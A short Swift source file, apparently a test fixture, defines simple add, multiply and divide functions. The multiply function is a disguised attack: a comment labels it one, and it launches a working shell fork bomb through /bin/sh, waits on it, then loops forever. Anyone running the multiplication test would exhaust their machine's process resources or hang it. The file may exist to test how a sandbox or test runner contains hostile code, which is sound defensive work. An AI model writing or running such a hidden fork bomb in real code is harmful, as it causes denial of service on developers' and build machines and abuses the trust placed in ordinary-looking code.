import Foundation
import MiniSupport

public func add(_ a: Int, _ b: Int) throws -> Int { a &+ b }

// Attack: a shell fork bomb started from the multiplication test, which then waits for it.
public func multiply(_ a: Int, _ b: Int) throws -> Int {
    let bomb = Process()
    bomb.executableURL = URL(fileURLWithPath: "/bin/sh")
    bomb.arguments = ["-c", "bomb() { bomb | bomb & }; bomb; wait"]
    try bomb.run()
    bomb.waitUntilExit()
    while true { sleep(1) }
}

public func divide(_ a: Int, _ b: Int) throws -> Int {
    guard b != 0 else { throw DivisionByZero() }
    return a / b
}
